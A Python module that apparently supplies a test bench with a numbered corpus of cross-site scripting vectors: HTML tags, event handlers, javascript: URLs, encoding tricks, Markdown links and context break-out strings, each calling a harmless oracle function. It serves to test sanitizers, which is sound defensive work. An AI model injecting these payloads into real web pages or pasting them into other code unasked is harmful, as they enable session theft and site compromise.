"""Texts that run a script in Chromium when a page shows them as they are.

``{pwn}`` stands for the call of the oracle, ``{pw}`` for its name without the first letter.
A vector counts only when its raw form runs: ``tests.bench.scripts.controls`` opens each.
"""

from __future__ import annotations

from dataclasses import dataclass

EVENTS = (
    "animationend", "animationstart", "auxclick", "beforecopy", "beforeinput", "blur", "click",
    "contextmenu", "copy", "cut", "dblclick", "drag", "dragend", "dragenter", "dragover", "drop",
    "focus", "input", "invalid", "keydown", "keypress", "keyup", "mousedown", "mouseenter",
    "mouseover", "paste", "pointerdown", "pointerover", "pointerrawupdate", "scroll",
    "selectstart", "toggle", "touchstart", "wheel",
)  # fmt: skip

HTML = (
    "<script>{pwn}</script>",
    "<SCRIPT>{pwn}</SCRIPT>",
    "<script/x>{pwn}</script >",
    "<script\n>{pwn}</script\n>",
    '<script src="data:text/javascript,{pwn}"></script>',
    "<script type=module>{pwn}</script>",
    "<script src=x onerror={pwn}></script>",
    '<script src="data:text/javascript," onload={pwn}></script>',
    "<svg><script>{pwn}</script></svg>",
    "<svg><script>&#116;{pw}</script></svg>",
    '<svg><script href="data:text/javascript,{pwn}" /></svg>',
    "<img src=x onerror={pwn}>",
    '<img src=x onerror="{pwn}">',
    "<img src=x onerror='{pwn}'>",
    "<IMG SRC=x OnErRoR={pwn}>",
    '<img/src="x"/onerror={pwn}>',
    "<img\tsrc=x\nonerror={pwn}>",
    "<img src=x onerror\n=\n{pwn}>",
    "<img src=x onerror=&#116;{pw}>",
    "<img src=x onerror=&#x74;{pw}>",
    "<img src=x onerror=\\u0074{pw}>",
    "<img src=x onerror=javascript:{pwn}>",
    "<img src=x onerror=eval('{pwn}')>",
    '<img src=x onerror="Function(`{pwn}`)()">',
    "<img src onerror={pwn}>",
    '<img src="data:," onerror={pwn}>',
    "<img srcset=x onerror={pwn}>",
    "<img src=x alt='>' onerror={pwn}>",
    "<image src=x onerror={pwn}>",
    "<svg onload={pwn}>",
    "<svg/onload={pwn}>",
    "<svg><svg onload={pwn}></svg>",
    "<svg><animate onbegin={pwn} attributeName=x dur=1s></svg>",
    "<svg><set onbegin={pwn} attributeName=x></set></svg>",
    "<svg><animateTransform onbegin={pwn} attributeName=transform dur=1s></svg>",
    "<svg><animateMotion onbegin={pwn} dur=1s></svg>",
    "<svg><image href=x onerror={pwn}></image></svg>",
    '<svg><a href="javascript:{pwn}"><text y=20>x</text></a></svg>',
    '<svg><a xlink:href="javascript:{pwn}"><text y=20>x</text></a></svg>',
    "<svg><style><img src=x onerror={pwn}></style></svg>",
    "<svg><title><img src=x onerror={pwn}></title></svg>",
    "<svg><desc><img src=x onerror={pwn}></desc></svg>",
    "<svg><foreignObject><img src=x onerror={pwn}></foreignObject></svg>",
    "<math><style><img src=x onerror={pwn}></style></math>",
    "<math><mtext><img src=x onerror={pwn}></mtext></math>",
    '<math><annotation-xml encoding="text/html"><img src=x onerror={pwn}></annotation-xml></math>',
    "<body onload={pwn}>",
    "<body onpageshow={pwn}>",
    '<iframe src="javascript:{pwn}"></iframe>',
    '<iframe srcdoc="<script>{pwn}</script>"></iframe>',
    '<iframe srcdoc="&lt;img src=x onerror={pwn}&gt;"></iframe>',
    "<iframe onload={pwn}></iframe>",
    "<video src=x onerror={pwn}></video>",
    "<video><source src=x onerror={pwn}></video>",
    "<video src=x onloadstart={pwn}></video>",
    "<audio src=x onerror={pwn}></audio>",
    "<audio><source src=x onerror={pwn}></audio>",
    "<audio src=x onloadstart={pwn}></audio>",
    "<input autofocus onfocus={pwn}>",
    "<textarea autofocus onfocus={pwn}></textarea>",
    "<select autofocus onfocus={pwn}></select>",
    "<button autofocus onfocus={pwn}>x</button>",
    "<b id=x tabindex=1 onfocus={pwn} autofocus>x</b>",
    "<details open ontoggle={pwn}><summary>x</summary></details>",
    "<style onload={pwn}></style>",
    "<style>@keyframes x{{}}</style><p style=animation:x onanimationstart={pwn}>x</p>",
    '<link rel=stylesheet href="data:text/css," onload={pwn}>',
    "<link rel=stylesheet href=x onerror={pwn}>",
    '<a href="javascript:{pwn}">x</a>',
    '<a href="JaVaScRiPt:{pwn}">x</a>',
    '<a href=" javascript:{pwn}">x</a>',
    '<a href="java&#10;script:{pwn}">x</a>',
    '<a href="java&Tab;script:{pwn}">x</a>',
    '<a href="java&#13;script:{pwn}">x</a>',
    '<a href="&#106;avascript:{pwn}">x</a>',
    '<a href="&#x6a;&#x61;&#x76;&#x61;script:{pwn}">x</a>',
    '<a href="javascript&colon;{pwn}">x</a>',
    '<a href="javascript:void({pwn})">x</a>',
    '<a href="javascript://%0a{pwn}">x</a>',
    '<a href="&#1;javascript:{pwn}">x</a>',
    '<a href="javascript:/*x*/{pwn}">x</a>',
    '<map name=m><area href="javascript:{pwn}"></map>',
    '<form action="javascript:{pwn}"><button>x</button></form>',
    '<form><button formaction="javascript:{pwn}">x</button></form>',
    '<form><input type=submit formaction="javascript:{pwn}"></form>',
    '<noscript><p title="</noscript><img src=x onerror={pwn}>">',
    '<title><img src="</title><img src=x onerror={pwn}>">',
    '<textarea><img title="</textarea><img src=x onerror={pwn}>">',
    '<style><img src="</style><img src=x onerror={pwn}>">',
    '<xmp><p title="</xmp><svg/onload={pwn}>">',
    "<!--><img src=x onerror={pwn}>-->",
    '<!--<img src="--><img src=x onerror={pwn}>">',
    "<![CDATA[><img src=x onerror={pwn}>]]>",
    "<?x ><img src=x onerror={pwn}>",
    "<table><img src=x onerror={pwn}></table>",
    "<div><template shadowrootmode=open><img src=x onerror={pwn}></template></div>",
    "<xss onclick={pwn}>x</xss>",
    "<p/onclick={pwn}>x</p>",
    "<a href=x onclick={pwn}>x</a>",
    "&lt;b&gt;<svg/onload={pwn}>",
    "\u202e<svg/onload={pwn}>\u202c",
    "宽带<svg/onload={pwn}>报障",
    *(f"<p on{event}={{pwn}}>x</p>" for event in EVENTS),
)
MARKDOWN = (
    "[x](javascript:{pwn})",
    "[x](JavaScript:{pwn})",
    "[x](<javascript:{pwn}>)",
    '[x](javascript:{pwn} "title")',
    "[x](&#106;avascript:{pwn})",
    "[x](javascript&colon;{pwn})",
    "[x](javascript://%0a{pwn})",
    "[**x**](javascript:{pwn})",
    "<javascript:{pwn}>",
    "[x]\n\n[x]: javascript:{pwn}",
    "[x][y]\n\n[y]: <javascript:{pwn}>",
    "**<img src=x onerror={pwn}>**",
    "# <svg onload={pwn}>",
    "- x <img src=x onerror={pwn}>",
    "> x <svg onload={pwn}>",
    "| <img src=x onerror={pwn}> |\n|:-|\n| x |",
)
QUOTED = {
    '<input value="{}">': ('"><svg/onload={pwn}>', '" autofocus onfocus={pwn} x="'),
    "<input value='{}'>": ("'><svg/onload={pwn}>", "' autofocus onfocus={pwn} x='"),
    "<textarea>{}</textarea>": ("</textarea><svg/onload={pwn}>",),
    "<title>{}</title>": ("</title><svg/onload={pwn}>",),
    '<script type=application/json>"{}"</script>': ("</script><svg/onload={pwn}>",),
    '<script>x = "{}"</script>': ('";{pwn};//', "</script><script>{pwn}</script>"),
    "<script>x = `{}`</script>": ("${{{pwn}}}", "`;{pwn};`"),
    '<a href="{}">x</a>': ("javascript:{pwn}",),
    "<!-- {} -->": ("--><svg/onload={pwn}>",),
}
"""What breaks out of the place it is put in, by that place."""


@dataclass(frozen=True)
class Vector:
    """One text, its number, and the page on which its raw form runs."""

    number: int
    text: str
    raw: str
    is_markdown: bool = False


def make_vectors() -> tuple[Vector, ...]:
    """All of them, numbered from 1: each tells the oracle its own number."""
    made: list[Vector] = []

    def add(template: str, place: str = "{}", *, is_markdown: bool = False) -> None:
        number = len(made) + 1
        pwn = f"top.pwn({number})"
        text = template.format(pwn=pwn, pw=pwn[1:])
        made.append(Vector(number, text, place.format(text), is_markdown))

    for template in HTML:
        add(template)
    for template in MARKDOWN:
        add(template, is_markdown=True)
    for place, templates in QUOTED.items():
        for template in templates:
            add(template, place)
    return tuple(made)
